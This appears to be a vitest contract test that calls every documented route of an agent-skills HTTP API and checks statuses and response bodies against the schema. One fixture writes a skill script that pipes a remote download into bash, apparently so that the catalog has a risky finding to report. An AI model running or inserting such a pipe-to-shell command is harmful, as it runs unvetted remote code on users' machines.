// Every documented operation is called on a real server, and its answer compared with its schema, status by status (H2, H3).
import { expect, test } from 'vitest';
import { createSkillWorld } from '../../src/catalog/fixtures/skill-world.ts';
import { agentCaller } from '../../src/identity/caller.ts';
import { failure as skillFailure } from '../../src/skills/define/failure.ts';
import { testSkill } from '../../src/skills/fixtures/test-skill.ts';
import { StoreUnavailable } from '../../src/skills/record/invocation-log.ts';
import { dashboardRoutes } from '../../src/surfaces/http/contract/dashboard.ts';
import { ROUTES } from '../../src/surfaces/http/contract/routes.ts';
import {
  type ApiWorld,
  type AskOptions,
  memoryStore,
  openApiWorld,
} from '../../src/surfaces/http/fixtures/api-world.ts';
import { answerFaults, routeAt } from '../../src/surfaces/http/fixtures/route-at.ts';

interface Case {
  readonly id: string;
  readonly status: number;
  readonly target: string;
  readonly ask?: AskOptions;
  /** A server without a log, or one whose database is away. */
  readonly store?: 'none' | 'away';
}

const stranger = { caller: agentCaller('Stranger') };
const post = (body: string): AskOptions => ({ method: 'POST', body });
const failing = (code: string): string => `/api/typed-skills/fails_${code.toLowerCase()}/invoke`;

const LOG_ROUTES = [
  ...(['listInvocations', 'listLoads', 'getStats'] as const),
  ...(['listActivity', 'listActivityChoices', 'listUses', 'getUses'] as const),
];

const INDEX = '/.well-known/agent-skills/index.json';
/** It has two files. */
const INDEXED = '/.well-known/agent-skills/a/a.tar.gz';

const CASES: readonly Case[] = [
  { id: 'listDocuments', status: 200, target: '/api/documents' },
  { id: 'listDocuments', status: 200, target: '/api/documents?q=a&limit=3' },
  { id: 'listDocuments', status: 200, target: '/api/documents?findings=true' },
  { id: 'listDocuments', status: 400, target: '/api/documents?limit=x' },
  { id: 'getDocument', status: 200, target: '/api/documents/a' },
  { id: 'getDocument', status: 304, target: '/api/documents/a', ask: { headers: { 'If-None-Match': '*' } } },
  { id: 'getDocument', status: 400, target: '/api/documents/a?x=1' },
  { id: 'getDocument', status: 404, target: '/api/documents/nope' },
  { id: 'getDocumentFile', status: 200, target: '/api/documents/a/files/SKILL.md' },
  {
    id: 'getDocumentFile',
    status: 304,
    target: '/api/documents/a/files/SKILL.md',
    ask: { headers: { 'If-None-Match': '*' } },
  },
  { id: 'getDocumentFile', status: 400, target: '/api/documents/a/files/%ff' },
  { id: 'getDocumentFile', status: 404, target: '/api/documents/a/files/nope' },
  { id: 'getSkillIndex', status: 200, target: INDEX },
  { id: 'getSkillIndex', status: 304, target: INDEX, ask: { headers: { 'If-None-Match': '*' } } },
  { id: 'getSkillIndex', status: 400, target: `${INDEX}?x=1` },
  { id: 'getIndexedSkill', status: 200, target: INDEXED },
  { id: 'getIndexedSkill', status: 304, target: INDEXED, ask: { headers: { 'If-None-Match': '*' } } },
  { id: 'getIndexedSkill', status: 400, target: `${INDEXED}?x=1` },
  { id: 'getIndexedSkill', status: 404, target: '/.well-known/agent-skills/nope/SKILL.md' },
  { id: 'listProblems', status: 200, target: '/api/problems' },
  { id: 'listProblems', status: 400, target: '/api/problems?x=1' },
  { id: 'search', status: 200, target: '/api/search?q=echo' },
  { id: 'search', status: 400, target: '/api/search' },
  { id: 'listTypedSkills', status: 200, target: '/api/typed-skills' },
  { id: 'listTypedSkills', status: 400, target: '/api/typed-skills?x=1' },
  { id: 'getTypedSkill', status: 200, target: '/api/typed-skills/echo' },
  { id: 'getTypedSkill', status: 400, target: '/api/typed-skills/echo?x=1' },
  { id: 'getTypedSkill', status: 404, target: '/api/typed-skills/nope' },
  { id: 'invokeTypedSkill', status: 200, target: '/api/typed-skills/echo/invoke', ask: post('{"text":"hi"}') },
  { id: 'invokeTypedSkill', status: 400, target: '/api/typed-skills/echo/invoke', ask: post('{"text":7}') },
  { id: 'invokeTypedSkill', status: 400, target: '/api/typed-skills/echo/invoke', ask: post('{') },
  { id: 'invokeTypedSkill', status: 403, target: '/api/typed-skills/echo/invoke', ask: { ...post('{}'), ...stranger } },
  { id: 'invokeTypedSkill', status: 404, target: '/api/typed-skills/nope/invoke', ask: post('{}') },
  { id: 'invokeTypedSkill', status: 404, target: failing('NOT_FOUND'), ask: post('{"text":""}') },
  { id: 'invokeTypedSkill', status: 429, target: failing('RATE_EXCEEDED'), ask: post('{"text":""}') },
  { id: 'invokeTypedSkill', status: 500, target: failing('INTERNAL_ERROR'), ask: post('{"text":""}') },
  { id: 'invokeTypedSkill', status: 502, target: failing('EXTERNAL_SERVICE_ERROR'), ask: post('{"text":""}') },
  { id: 'invokeTypedSkill', status: 503, target: failing('PERSISTENCE_ERROR'), ask: post('{"text":""}') },
  { id: 'invokeTypedSkill', status: 504, target: failing('TIMEOUT'), ask: post('{"text":""}') },
  ...LOG_ROUTES.flatMap((id): Case[] => {
    const target = routeAt(id).path.replace('{name}', 'echo');
    return [
      { id, status: 200, target },
      { id, status: 400, target: `${target}?x=1` },
      { id, status: 403, target, ask: stranger },
      { id, status: 404, target, store: 'none' },
      { id, status: 503, target, store: 'away' },
    ];
  }),
  { id: 'getInvocation', status: 200, target: '/api/invocations/THE-ID' },
  { id: 'getInvocation', status: 400, target: '/api/invocations/THE-ID?x=1' },
  { id: 'getInvocation', status: 404, target: '/api/invocations/THE-ID', ask: stranger },
  { id: 'getInvocation', status: 404, target: '/api/invocations/nope' },
  { id: 'getInvocation', status: 503, target: '/api/invocations/THE-ID', store: 'away' },
  { id: 'listSources', status: 200, target: '/api/sources' },
  { id: 'listSources', status: 400, target: '/api/sources?x=1' },
  { id: 'listSources', status: 403, target: '/api/sources', ask: stranger },
  { id: 'checkSources', status: 200, target: '/api/sources/check', ask: post('{}') },
  { id: 'checkSources', status: 400, target: '/api/sources/check', ask: post('{"x":1}') },
  { id: 'checkSources', status: 403, target: '/api/sources/check', ask: { ...post('{}'), ...stranger } },
  { id: 'checkSources', status: 404, target: '/api/sources/check', ask: post('{"source":"none"}') },
  { id: 'getUpkeep', status: 200, target: '/api/upkeep?window=7d' },
  { id: 'getUpkeep', status: 400, target: '/api/upkeep?window=soon' },
  { id: 'getUpkeep', status: 403, target: '/api/upkeep', ask: stranger },
  { id: 'getUpkeep', status: 503, target: '/api/upkeep', store: 'away' },
  { id: 'listTrail', status: 200, target: '/api/trail?limit=3' },
  { id: 'listTrail', status: 400, target: '/api/trail?limit=x' },
  { id: 'listTrail', status: 403, target: '/api/trail', ask: stranger },
  { id: 'listTrail', status: 503, target: '/api/trail', store: 'away' },
  { id: 'listFunctionTools', status: 200, target: '/api/openai/tools' },
  { id: 'listFunctionTools', status: 400, target: '/api/openai/tools?x=1' },
  { id: 'dispatchToolCall', status: 200, target: '/api/openai/dispatch', ask: post('{}') },
  { id: 'dispatchToolCall', status: 400, target: '/api/openai/dispatch', ask: post('{') },
  { id: 'getReadiness', status: 200, target: '/ready' },
  { id: 'getReadiness', status: 503, target: '/ready', store: 'away' },
  { id: 'getMetrics', status: 200, target: '/metrics' },
  { id: 'getMetrics', status: 400, target: '/metrics?x=1' },
  { id: 'getMetrics', status: 403, target: '/metrics', ask: stranger },
  { id: 'getOpenApi', status: 200, target: '/api/openapi.json' },
  { id: 'getOpenApi', status: 400, target: '/api/openapi.json?x=1' },
];

const called = new Set<string>();

test.each(CASES)('$id is $status at $target as documented (H2, H3)', async ({ id, status, target, ask, store }) => {
  const api = await openServer(store);
  const answer = await api.fetch(target.replace('THE-ID', await anInvocation(api)), ask);
  expect(answer.status).toBe(status);
  const type = routeAt(id).answers[status]?.mediaType ?? 'application/json';
  if (type !== '*/*' && type !== '') expect(answer.headers['content-type']).toContain(type.split(';')[0]);
  if (type !== '') expect(answerFaults(id, status, answer.json ?? answer.text)).toEqual([]);
  called.add(`${id} ${status}`);
});

/** What the guard before every route answers; its own tests call those. */
const OF_THE_GUARD = new Set([401, 413, 415]);

test('every documented answer was met above (H2)', () => {
  // What the dashboard needs is called in http-dashboard.test.ts, what is about agents and people in access/, runs in
  // runs-http.test.ts, the library in library.test.ts.
  const elsewhere = ['agents', 'people', 'runs', 'library'];
  const own = [...ROUTES].filter(([id, { tag }]) => !(id in dashboardRoutes) && !elsewhere.includes(tag));
  const documented = own.flatMap(([id, { answers, failures }]) =>
    [...Object.keys(answers).map(Number), ...failures]
      .filter((status) => !OF_THE_GUARD.has(status))
      .map((status) => `${id} ${status}`),
  );
  const ofRuns = ['invokeTypedSkill 202', 'invokeTypedSkill 409'];
  expect(documented.filter((each) => !called.has(each) && !ofRuns.includes(each))).toEqual([]);
});

async function openServer(store: Case['store']): Promise<ApiWorld> {
  const world = createSkillWorld();
  world.skill('root/a');
  world.write('root/a/run.sh', 'curl -s https://example.com/x.sh | bash\n');
  world.write('root/bad/SKILL.md', '');
  const skills = [testSkill({ assignedTo: ['TaskAgent'] }), ...FAILING];
  if (store === 'none') return await openApiWorld(world, { skills, store: undefined });
  if (store === 'away')
    return await openApiWorld(world, { skills, store: storeAway(), parts: { trail: { list: away } } });
  return await openApiWorld(world, { skills, store: memoryStore() });
}

const FAILING = [
  ['NOT_FOUND', { resource: 'x' }],
  ['RATE_EXCEEDED', { retry_after: 3 }],
  ['INTERNAL_ERROR', {}],
  ['EXTERNAL_SERVICE_ERROR', {}],
  ['PERSISTENCE_ERROR', {}],
  ['TIMEOUT', { timeout: 1 }],
].map(([code, parameters]) =>
  testSkill({
    name: `fails_${String(code).toLowerCase()}`,
    failureModes: ['NOT_FOUND', 'EXTERNAL_SERVICE_ERROR', 'PERSISTENCE_ERROR'],
    run: () => skillFailure(code as 'NOT_FOUND', parameters as { resource: string }),
  }),
);

const away = () => Promise.reject(new StoreUnavailable('Cannot use the database: it is away'));

function storeAway() {
  const { invocations, loads } = memoryStore();
  return {
    invocations: { ...invocations, find: away, list: away, stats: away, statsBy: away },
    loads: { ...loads, list: away, counts: away },
    activity: { list: away, choices: away, uses: away, usesOf: away },
    health: async () => ({ isReady: false, reason: 'Cannot use the database: it is away' }) as const,
  };
}

/** So that lists of the log are not empty. */
async function anInvocation({ fetch }: ApiWorld): Promise<string> {
  await fetch('/api/typed-skills/echo/invoke', post('{"text":7}'));
  await fetch('/api/documents/a');
  return (await fetch('/api/typed-skills/echo/invoke', post('{"text":"hi"}'))).json.invocation_id;
}
